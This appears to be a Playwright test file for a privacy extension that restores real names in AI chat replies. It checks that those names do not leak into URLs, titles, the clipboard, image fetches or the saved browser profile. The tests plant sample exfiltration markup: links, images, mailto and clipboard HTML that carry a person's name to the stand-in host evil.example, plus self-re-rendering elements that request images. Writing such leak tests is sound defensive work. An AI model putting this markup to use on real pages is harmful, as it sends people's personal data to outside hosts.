// Replies and pages that try to get originals into an address: of the page, of what is copied, of the browser's history.
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { browserAndServer, serverOnly } from '../for-this-file.ts';
import { install } from '../harness.ts';
import { poll } from '../poll.ts';
import { type Chat, chatWithReply, FIRST, NAME, ORIGINALS } from './restored-chat.ts';

const shared = browserAndServer({ permissions: ['clipboard-read', 'clipboard-write'] });

/** All addresses and texts that the server has got, as they were meant. */
const arrived = () =>
  shared.server.arrived
    .map((text) => {
      try {
        return decodeURIComponent(text.replaceAll('+', ' '));
      } catch {
        return text;
      }
    })
    .join('\n');

async function restored(chat: Chat): Promise<void> {
  await chat.panel.click('restore-toggle');
  await expect(chat.reply()).toContainText(NAME);
}

test('text, attributes, drawings and styles: no original comes into an address or a title', async () => {
  const chat = await chatWithReply(shared);
  const { page, surrogate, reply } = chat;
  await reply().evaluate((element, name) => {
    const q = encodeURIComponent(name);
    document.title = `${name} - chat`;
    element.innerHTML = `<p id="prose">Dear ${name}, see https://evil.example/?q=${q} and www.evil.example/${q}.</p>
      <a id="link" href="/log/link?q=${q}" title="${name}">${name}</a>
      <a id="mail" href="mailto:x@evil.example?body=${q}">mail</a>
      <svg width="90" height="20"><title>${name}</title><text y="15">${name}</text></svg>
      <style>.x::after { content: "${name}"; }</style>
      <p id="markdown">![](https://evil.example/a.png?q=${name.replace(' ', '-')} "${name}")</p>`;
  }, surrogate);
  await chat.panel.click('restore-toggle');
  await expect(reply().locator('#prose')).toContainText(`Dear ${NAME}`);
  await expect(reply().locator('#link')).toHaveText(NAME);
  const rest = await reply().evaluate((element) => {
    const copy = element.cloneNode(true) as Element;
    const prose = copy.querySelector('#prose') as Element;
    prose.textContent = (prose.textContent ?? '').replace(/Dear \w+ \w+/, '');
    (copy.querySelector('#link') as Element).textContent = '';
    return copy.innerHTML;
  });
  expect(decodeURIComponent(rest)).not.toMatch(ORIGINALS);
  expect(await page.title()).toContain(surrogate);
  expect(await page.evaluate(() => document.head.textContent)).not.toMatch(ORIGINALS);

  await reply().selectText();
  await page.keyboard.press('Control+C');
  const html = await page.evaluate(async () => {
    const [item] = await navigator.clipboard.read();
    return item?.types.includes('text/html') ? (await item.getType('text/html')).text() : '';
  });
  expect(html).toContain(NAME);
  const attributes = await page.evaluate(
    (text) =>
      [...new DOMParser().parseFromString(text, 'text/html').querySelectorAll('*')].flatMap((element) =>
        [...element.attributes].map(({ value }) => decodeURIComponent(value)),
      ),
    html,
  );
  expect(attributes.join('\n')).not.toMatch(ORIGINALS);
  await page.close();
});

test('markup that a site copies: addresses that hold an original lose it', async () => {
  const chat = await chatWithReply(shared);
  const { page } = chat;
  await restored(chat);
  await page.evaluate((name) => {
    document.addEventListener(
      'copy',
      (event) => {
        const q = encodeURIComponent(name);
        event.clipboardData?.setData(
          'text/html',
          `<p>${name}</p><img src="https://evil.example/?q=${q}"><a href="https://evil.example/${q}" title="${name}">x</a><svg><text>${name}</text></svg>`,
        );
        event.preventDefault();
      },
      { once: true },
    );
  }, NAME);
  await chat.reply().selectText();
  await page.keyboard.press('Control+C');
  const html = await page.evaluate(async () => {
    const [item] = await navigator.clipboard.read();
    return item?.types.includes('text/html') ? (await item.getType('text/html')).text() : '';
  });
  expect(html).toContain(`<p>${NAME}</p>`);
  expect(decodeURIComponent(html.replace(`<p>${NAME}</p>`, ''))).not.toMatch(ORIGINALS);
  await page.close();
});

const AGAIN: readonly (readonly [string, string])[] = [
  ['innerHTML', 'this.innerHTML = markup'],
  ['insertAdjacentHTML', 'this.insertAdjacentHTML("beforeend", markup)'],
  ['a fragment', 'this.append(document.createRange().createContextualFragment(markup))'],
  ['a parsed document', 'this.append(...new DOMParser().parseFromString(markup, "text/html").body.childNodes)'],
  [
    'a template',
    'const t = document.createElement("template"); t.innerHTML = markup; this.append(t.content.cloneNode(true))',
  ],
  ['a shadow root', '(this.shadowRoot ?? this.attachShadow({ mode: "open" })).innerHTML = markup'],
  ['unsafe HTML', 'this.setHTMLUnsafe(markup)'],
];

for (const [name, write] of AGAIN)
  test(`an element that renders its own text anew when it is restored fetches no picture: ${name}`, async () => {
    const chat = await chatWithReply(shared);
    const { page, surrogate, reply } = chat;
    await page.evaluate((code) => {
      customElements.define(
        'again-view',
        class extends HTMLElement {
          connectedCallback(): void {
            const render = new Function(
              `const q = encodeURIComponent(this.dataset.text = this.textContent.trim());
               const markup = '<img src="/log/picture?q=' + q + '"><img srcset="/log/set?q=' + q + ' 1x"><p style="background: url(/log/style?q=' + q + ')">x</p>';
               ${code}`,
            ).bind(this);
            new MutationObserver(() => this.dataset.text === this.textContent?.trim() || render()).observe(this, {
              characterData: true,
              subtree: true,
            });
          }
        },
      );
    }, write);
    await reply().evaluate((element, text) => {
      element.innerHTML = `<again-view>${text}</again-view><p id="beside">${text}</p>`;
    }, surrogate);
    await chat.panel.click('restore-toggle');
    await expect(reply().locator('#beside')).toHaveText(NAME);
    await poll(() => page.locator('again-view').getAttribute('data-text')).toContain(FIRST);
    await page.waitForTimeout(800);
    expect(arrived()).not.toMatch(ORIGINALS);
    await page.close();
  });

test.describe('the browser’s own memory', () => {
  const served = serverOnly();

  function files(folder: string): string[] {
    return readdirSync(folder).flatMap((name) => {
      const path = join(folder, name);
      return statSync(path).isDirectory() ? files(path) : [path];
    });
  }

  test('a profile holds no original after a restored chat, its history included', async () => {
    const profile = mkdtempSync(join(tmpdir(), 'coatcheck-history-'));
    const installed = await install({ profile });
    const chat = await chatWithReply({ installed, server: served.server });
    // A site that names its chat by what was asked, as most do.
    await chat.page.evaluate((name) => {
      document.title = `Letter for ${name}`;
    }, chat.surrogate);
    await chat.panel.click('restore-toggle');
    await expect(chat.reply()).toContainText(NAME);
    await chat.page.waitForTimeout(1_500);
    await chat.page.evaluate(() => history.pushState({}, '', `${location.pathname}?next`));
    await chat.page.waitForTimeout(1_500);
    // What the tests' own end of a browser takes away is what is looked into.
    await installed.context.close();
    const utf16 = (text: string) => Buffer.from(text, 'utf16le');
    // The browser keeps what is typed into any page, to fill it in after a crash; and the beds' own scripts name these people.
    const own = /\/(?:Sessions|Cache_Data|Code Cache)\//;
    const holding = files(profile).filter((path) => {
      if (own.test(path)) return false;
      const content = readFileSync(path);
      return ['Annika Lindqvist', 'Tobias Castellanos'].some(
        (name) => content.includes(name) || content.includes(utf16(name)),
      );
    });
    rmSync(profile, { recursive: true, force: true });
    expect(holding.map((path) => path.slice(profile.length))).toEqual([]);
  });
});
